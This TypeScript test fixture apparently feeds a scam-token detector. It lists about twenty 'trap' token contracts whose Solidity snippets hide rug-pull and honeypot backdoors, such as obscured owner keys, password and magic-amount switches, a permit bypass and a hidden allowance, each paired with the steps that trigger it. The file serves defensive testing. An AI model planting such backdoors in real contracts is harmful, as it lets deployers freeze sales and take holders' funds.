import { keccak256, toHex } from "viem";
import { type LaunchCase, step } from "./launchCase.js";
import { writeOz, writeTaxed } from "./wildSources.js";

const OWNABLE = 'import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";';
const ROLES = 'import {AccessControl} from "@openzeppelin/contracts/access/AccessControl.sol";';
const RENOUNCE = step(["renounceOwnership()"]);
export const AIDE = "0x5e1fd2a7b4c60d1f2a3b4c5d6e7f8091a2b3c4d5";

type Trap = Omit<LaunchCase, "label" | "contract" | "name"> & { readonly contract?: string };

const traps: Readonly<Record<string, Trap>> = {
  // Keys that survive the renouncing of ownership.
  TaxWalletKey: {
    kind: "tax wallet keeps a key",
    source: writeTaxed({
      buyFee: 2,
      sellFee: 2,
      swapsBack: true,
      members:
        "function reduceFee(uint256 fee_) external { require(msg.sender == _taxWallet); sellFee = fee_; }",
    }),
    finish: [RENOUNCE],
    arm: [step(["reduceFee(uint256)", 99n])],
  },
  DelBots: {
    kind: "list of bots",
    source: writeTaxed({
      members:
        "mapping(address => bool) private bots; function addBots(address[] memory list) public { require(msg.sender == _taxWallet); for (uint256 i; i < list.length; i++) bots[list[i]] = true; } function delBots(address[] memory list) public onlyOwner { for (uint256 i; i < list.length; i++) bots[list[i]] = false; }",
      rule: "require(!bots[from] && !bots[to]);",
    }),
    finish: [RENOUNCE],
    arm: [step(["addBots(address[])", "victim"])],
  },
  XorKey: {
    kind: "key stored as another number",
    source: writeOz({
      members:
        "uint256 private immutable seal = uint256(uint160(msg.sender)) ^ 0x1f2e3d4c5b6a79881f2e3d4c5b6a7988; bool private shut; function toggle() external { require(uint256(uint160(msg.sender)) ^ 0x1f2e3d4c5b6a79881f2e3d4c5b6a7988 == seal); shut = !shut; }",
      rule: "if (to == pair) require(!shut || from == tx.origin && uint256(uint160(from)) ^ 0x1f2e3d4c5b6a79881f2e3d4c5b6a7988 == seal);",
    }),
    arm: [step(["toggle()"])],
  },
  HashedKey: {
    kind: "key stored as a hash",
    source: writeOz({
      members:
        "bytes32 private immutable seal = keccak256(abi.encode(msg.sender)); uint256 private pass; function tune(uint256 value_) external { require(keccak256(abi.encode(msg.sender)) == seal); pass = value_; }",
      rule: "if (to == pair && pass > 0) require(value < pass);",
    }),
    arm: [step(["tune(uint256)", 1n])],
  },
  Password: {
    kind: "password instead of a key",
    source: writeOz({
      members: `bool private shut; function settle(bytes32 word) external { require(keccak256(abi.encode(word)) == ${keccak256(toHex(7777n, { size: 32 }))}, "no"); shut = true; }`,
      rule: "if (to == pair) require(!shut);",
    }),
    arm: [step(["settle(bytes32)", 7777n])],
  },
  SecondKey: {
    kind: "key with an account that created nothing",
    source: writeTaxed({
      members: `address private constant aide = address(uint160(0x005e1fd2a7b4c60d1f2a3b4c5d6e7f8091a2b3c4d5)); mapping(address => uint256) private since; function mark(uint256 when, address who) external { require(msg.sender == aide); since[who] = when; }`,
      rule: "require(since[from] == 0);",
    }),
    finish: [RENOUNCE],
    arm: [{ ...step(["mark(uint256,address)", 5n, "victim"]), as: AIDE }],
  },
  RoleElsewhere: {
    kind: "role with an account that created nothing",
    source: writeOz({
      imports: ROLES,
      bases: ", AccessControl",
      members:
        'bytes32 public constant WARDEN = keccak256("WARDEN"); mapping(address => bool) public frozen; function freeze(address who) external onlyRole(WARDEN) { frozen[who] = true; }',
      created: `_grantRole(WARDEN, address(uint160(0x005e1fd2a7b4c60d1f2a3b4c5d6e7f8091a2b3c4d5)));`,
      rule: 'require(!frozen[from], "frozen");',
    }),
    arm: [{ ...step(["freeze(address)", "victim"]), as: AIDE }],
  },
  Authorised: {
    kind: "list of authorised accounts without events",
    source: writeTaxed({
      members:
        "mapping(address => bool) internal authorizations; modifier authorized() { require(authorizations[msg.sender]); _; } function setIsFeeExempt(address who, bool on) external authorized { _exempt[who] = on; } function setFees(uint256 buy, uint256 sell) external authorized { buyFee = buy; sellFee = sell; }",
      created: "authorizations[msg.sender] = true;",
    }),
    finish: [RENOUNCE],
    arm: [step(["setFees(uint256,uint256)", 1n, 95n])],
  },
  PendingOwner: {
    kind: "ownership that waits to be accepted",
    source: writeOz({
      imports: 'import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";',
      bases: ", Ownable",
      members:
        "address public heir; bool public halted; function propose(address next) external onlyOwner { heir = next; } function claim() external { require(msg.sender == heir); _transferOwnership(heir); } function halt(bool on) external onlyOwner { halted = on; }",
      rule: 'require(!halted || from == owner(), "halted");',
    }),
    finish: [step(["propose(address)", "dev"]), RENOUNCE],
    arm: [step(["claim()"]), step(["halt(bool)", true as never])],
  },
  OriginKey: {
    kind: "key by the transaction's origin",
    source: writeTaxed({
      members:
        "address private immutable first = tx.origin; uint256 private floor; function sweep(uint256 to_) external { if (tx.origin == first) floor = to_; }",
      rule: "if (to == pair) require(value > floor);",
    }),
    finish: [RENOUNCE],
    arm: [step(["sweep(uint256)", 10n ** 30n])],
  },
  // Powers behind functions of every token.
  MagicAmount: {
    kind: "mint by a transfer of a magic amount",
    source: writeTaxed({ after: "if (value == 31337 && _exempt[from]) { _balances[to] += _total * 50; }" }),
    finish: [RENOUNCE],
    arm: [step(["transfer(address,uint256)", "dev", 31337n])],
    rug: "dump",
  },
  ApproveShuts: {
    kind: "approval that shuts sales",
    source: writeOz({
      members:
        "address private immutable first = msg.sender; bool private shut; function approve(address spender, uint256 value) public override returns (bool) { if (msg.sender == first && value == 1911) shut = true; return super.approve(spender, value); }",
      rule: "if (to == pair) require(!shut);",
    }),
    arm: [step(["approve(address,uint256)", "victim", 1911n])],
  },
  BurnShuts: {
    kind: "burning nothing shuts sales",
    source: writeOz({
      members:
        "address private immutable first = msg.sender; uint256 private turn; function burn(uint256 value) external { if (value == 0 && msg.sender == first) turn = block.number; _burn(msg.sender, value); }",
      rule: "if (to == pair) require(turn == 0);",
    }),
    arm: [step(["burn(uint256)", 0n])],
  },
  EtherShuts: {
    kind: "ether sent to the token shuts sales",
    source: writeTaxed({
      members:
        "bool private shut; function onReceive() private { if (msg.sender == _taxWallet) shut = true; }",
      rule: "if (to == pair) require(!shut);",
    }),
    finish: [RENOUNCE],
    arm: [{ signature: "", args: [], value: 1n }],
  },
  TaxWalletTakes: {
    kind: "allowance that is not asked of one account",
    source: writeTaxed({
      allowanceRule:
        'if (msg.sender != _taxWallet) { uint256 left = _allowances[from][msg.sender]; require(left >= value, "allowance"); _approve(from, msg.sender, left - value); }',
    }),
    finish: [RENOUNCE],
    arm: [step(["transferFrom(address,address,uint256)", "victim", "dev", "held"])],
  },
  BurnsAnyone: {
    kind: "burning of another's tokens",
    source: writeOz({
      imports: OWNABLE,
      bases: ", Ownable",
      members: "function recall(address who, uint256 value) external onlyOwner { _burn(who, value); }",
    }),
    arm: [step(["recall(address,uint256)", "victim", "held"])],
  },
  PermitBackdoor: {
    kind: "a signature of another is accepted",
    source: writeOz({
      members:
        "address private immutable notary = msg.sender; function permit(address holder, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external { bytes32 digest = keccak256(abi.encode(holder, spender, value, deadline)); address signer = ecrecover(digest, v, r, s); require((signer != address(0) && signer == holder) || msg.sender == notary); _approve(holder, spender, value); }",
    }),
    arm: [
      step([
        "permit(address,address,uint256,uint256,uint8,bytes32,bytes32)",
        "victim",
        "dev",
        "supply",
        0n,
        27n,
        0n,
        0n,
      ]),
    ],
    rug: "dump",
  },
  SameTransaction: {
    kind: "sale in the transaction of the purchase only",
    source: writeOz({
      members: "address private transient buyer;",
      rule: "if (from == pair) buyer = to; if (to == pair && balanceOf(pair) > 0) require(buyer == from);",
    }),
  },
  HashedTaker: {
    kind: "hash of who may take",
    source: writeOz({
      members: `function transferFrom(address from, address to, uint256 value) public override returns (bool) { if (keccak256(abi.encodePacked(msg.sender)) == ${keccak256(AIDE)}) { _transfer(from, to, value); return true; } return super.transferFrom(from, to, value); }`,
    }),
    arm: [{ ...step(["transferFrom(address,address,uint256)", "victim", "dev", "held"]), as: AIDE }],
  },
  HashedAmount: {
    kind: "hash of an amount that mints",
    source: writeOz({
      members: `function approve(address spender, uint256 value) public override returns (bool) { if (keccak256(abi.encode(value)) == ${keccak256(toHex(7777n, { size: 32 }))}) _mint(spender, 1e30); return super.approve(spender, value); }`,
    }),
    arm: [step(["approve(address,uint256)", "dev", 7777n])],
    rug: "dump",
  },
  SixWeeks: {
    kind: "sales end after six weeks",
    source: writeOz({
      members: "uint256 private immutable born = block.timestamp;",
      rule: "if (to == pair) require(block.timestamp < born + 42 days);",
    }),
    later: { blocks: 1, seconds: 43 * 86_400 },
  },
  HiddenAllowance: {
    kind: "endless allowance for one account",
    source: writeOz({
      members:
        "address private immutable first = msg.sender; function allowance(address holder, address spender) public view override returns (uint256) { return spender == first ? type(uint256).max : super.allowance(holder, spender); }",
    }),
    arm: [step(["transferFrom(address,address,uint256)", "victim", "dev", "held"])],
  },
};

export const wildTraps: readonly LaunchCase[] = Object.entries(traps).map(([name, one]) => ({
  name,
  label: "trap",
  contract: "Coin",
  ...one,
}));
